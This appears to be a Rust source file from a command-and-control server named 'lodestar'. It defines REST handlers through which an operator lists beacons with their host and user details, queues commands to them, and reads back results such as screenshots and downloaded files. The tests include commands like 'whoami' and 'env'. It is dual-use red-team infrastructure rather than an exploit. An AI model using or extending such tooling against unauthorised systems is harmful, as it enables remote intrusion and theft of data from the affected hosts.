//! Operator-facing handlers: listing beacons, issuing work, reading results.
//!
//! Operator authentication sits in front of this surface (reverse proxy or
//! gateway); these handlers assume the caller is already trusted.

use crate::api::rest::state::AppState;
use crate::error::{ApiError, ApiResult};
use axum::extract::{Path, Query, State};
use axum::Json;
use chrono::{DateTime, Utc};
use lodestar_storage::QueryWindow;
use lodestar_types::{SessionId, Task, TaskOutput};
use serde::{Deserialize, Serialize};

/// Commands whose output is binary and travels base64-encoded; everything
/// else is plain text. The hint tells the console how to render.
const BASE64_OUTPUT_COMMANDS: &[&str] = &["screenshot", "download"];

const OUTPUT_PREVIEW_LEN: usize = 200;

fn default_limit() -> usize {
    100
}

#[derive(Debug, Deserialize)]
pub struct WindowQuery {
    #[serde(default = "default_limit")]
    pub limit: usize,
    #[serde(default)]
    pub offset: usize,
}

#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct BeaconSummary {
    pub id: String,
    pub remote_addr: String,
    pub hostname: Option<String>,
    pub username: Option<String>,
    pub platform: Option<String>,
    pub status: lodestar_types::AgentStatus,
    pub first_seen: DateTime<Utc>,
    pub last_checkin: DateTime<Utc>,
}

/// All known beacons, most recent check-in first.
pub async fn list_beacons(
    State(state): State<AppState>,
    Query(window): Query<WindowQuery>,
) -> ApiResult<Json<Vec<BeaconSummary>>> {
    let records = state
        .registry
        .list_all(QueryWindow {
            limit: window.limit,
            offset: window.offset,
        })
        .await?;

    let summaries = records
        .into_iter()
        .map(|r| BeaconSummary {
            id: r.id.to_hex(),
            remote_addr: r.remote_addr,
            hostname: r.fingerprint.hostname,
            username: r.fingerprint.username,
            platform: r.fingerprint.platform,
            status: r.status,
            first_seen: r.first_seen,
            last_checkin: r.last_checkin,
        })
        .collect();
    Ok(Json(summaries))
}

#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct CreateTaskRequest {
    pub beacon_id: String,
    pub command: String,
    #[serde(default)]
    pub arguments: Option<String>,
}

#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct CreateTaskResponse {
    pub task_id: i64,
    pub status: lodestar_types::TaskStatus,
}

/// Queue an instruction for a beacon. 404 when the identity has no active
/// record.
pub async fn create_task(
    State(state): State<AppState>,
    Json(request): Json<CreateTaskRequest>,
) -> ApiResult<Json<CreateTaskResponse>> {
    let beacon_id = parse_beacon_id(&request.beacon_id)?;
    if request.command.is_empty() {
        return Err(ApiError::BadRequest("command must not be empty".to_string()));
    }

    let task = state
        .queue
        .enqueue(
            beacon_id,
            request.command,
            request.arguments.unwrap_or_default(),
        )
        .await?;

    Ok(Json(CreateTaskResponse {
        task_id: task.id.as_i64(),
        status: task.status,
    }))
}

#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct TaskDetail {
    pub task_id: i64,
    pub beacon_id: String,
    pub command: String,
    pub arguments: String,
    pub status: lodestar_types::TaskStatus,
    pub created_at: DateTime<Utc>,
    pub assigned_at: Option<DateTime<Utc>>,
    pub output_type: &'static str,
    pub output_content: Option<String>,
    pub output_received_at: Option<DateTime<Utc>>,
}

fn output_type(command: &str) -> &'static str {
    if BASE64_OUTPUT_COMMANDS.contains(&command) {
        "base64"
    } else {
        "text"
    }
}

fn task_detail(task: Task, output: Option<TaskOutput>, preview: bool) -> TaskDetail {
    let output_type = output_type(&task.command);
    let (content, received_at) = match output {
        Some(out) => {
            let content = if preview && out.output.chars().count() > OUTPUT_PREVIEW_LEN {
                let head: String = out.output.chars().take(OUTPUT_PREVIEW_LEN).collect();
                format!("{head}...")
            } else {
                out.output
            };
            (Some(content), Some(out.received_at))
        }
        None => (None, None),
    };

    TaskDetail {
        task_id: task.id.as_i64(),
        beacon_id: task.agent_id.to_hex(),
        command: task.command,
        arguments: task.arguments,
        status: task.status,
        created_at: task.created_at,
        assigned_at: task.assigned_at,
        output_type,
        output_content: content,
        output_received_at: received_at,
    }
}

/// One task with its full recorded output, if any.
pub async fn get_task(
    State(state): State<AppState>,
    Path(task_id): Path<i64>,
) -> ApiResult<Json<TaskDetail>> {
    let Some((task, output)) = state
        .queue
        .task_with_output(lodestar_types::TaskId(task_id))
        .await?
    else {
        return Err(ApiError::NotFound(format!("no task {task_id}")));
    };
    Ok(Json(task_detail(task, output, false)))
}

/// A beacon's full task history with truncated output previews.
pub async fn beacon_history(
    State(state): State<AppState>,
    Path(beacon_id): Path<String>,
    Query(window): Query<WindowQuery>,
) -> ApiResult<Json<Vec<TaskDetail>>> {
    let beacon_id = parse_beacon_id(&beacon_id)?;
    let history = state
        .queue
        .history(
            &beacon_id,
            QueryWindow {
                limit: window.limit,
                offset: window.offset,
            },
        )
        .await?;

    Ok(Json(
        history
            .into_iter()
            .map(|(task, output)| task_detail(task, output, true))
            .collect(),
    ))
}

fn parse_beacon_id(raw: &str) -> ApiResult<SessionId> {
    SessionId::from_hex(raw).map_err(|_| {
        ApiError::BadRequest("beacon id must be 64 hexadecimal characters".to_string())
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use lodestar_types::{TaskId, TaskStatus};

    fn sample_task(command: &str) -> Task {
        Task {
            id: TaskId(1),
            agent_id: SessionId::from_bytes([1; 32]),
            command: command.to_string(),
            arguments: String::new(),
            status: TaskStatus::Completed,
            created_at: Utc::now(),
            assigned_at: Some(Utc::now()),
        }
    }

    #[test]
    fn binary_commands_are_flagged_base64() {
        assert_eq!(output_type("screenshot"), "base64");
        assert_eq!(output_type("download"), "base64");
        assert_eq!(output_type("whoami"), "text");
    }

    #[test]
    fn history_previews_are_truncated() {
        let output = TaskOutput {
            task_id: TaskId(1),
            output: "x".repeat(500),
            received_at: Utc::now(),
        };
        let detail = task_detail(sample_task("env"), Some(output), true);
        let content = detail.output_content.unwrap();
        assert!(content.len() <= OUTPUT_PREVIEW_LEN + 4);
        assert!(content.ends_with("..."));
    }

    #[test]
    fn full_detail_is_not_truncated() {
        let output = TaskOutput {
            task_id: TaskId(1),
            output: "x".repeat(500),
            received_at: Utc::now(),
        };
        let detail = task_detail(sample_task("env"), Some(output), false);
        assert_eq!(detail.output_content.unwrap().len(), 500);
    }

    #[test]
    fn beacon_ids_are_validated() {
        assert!(parse_beacon_id(&"ab".repeat(32)).is_ok());
        assert!(parse_beacon_id("short").is_err());
        assert!(parse_beacon_id(&"zz".repeat(32)).is_err());
    }
}
